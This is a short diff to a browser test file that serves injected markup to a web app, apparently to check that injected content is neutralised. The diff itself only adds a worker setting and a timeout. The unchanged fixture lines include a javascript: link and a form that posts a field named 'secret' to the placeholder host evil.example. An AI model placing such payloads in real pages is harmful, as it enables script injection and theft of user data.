@@ -23,11 +23,15 @@ const BODY = `${Object.values(RUNS_BY_ITSELF).join('')}
   <a id="trap" href="javascript:${note('javascript address')}">a</a>
   <form id="leak" action="https://evil.example/"><input name="secret" value="1"></form>`;
 
+// One worker, because each would start a server with a new database.
+test.describe.configure({ mode: 'default' });
+
 let dir: string;
 let server: ChildProgram;
 let url: string;
 
 test.beforeAll(async () => {
+  test.setTimeout(120_000);
   dir = await mkdtemp(join(tmpdir(), 'clinic-atlas-injected-'));
   server = runProgram('tests/support/injecting-server.ts', [HEAD, BODY], {
     NODE_ENV: 'production',
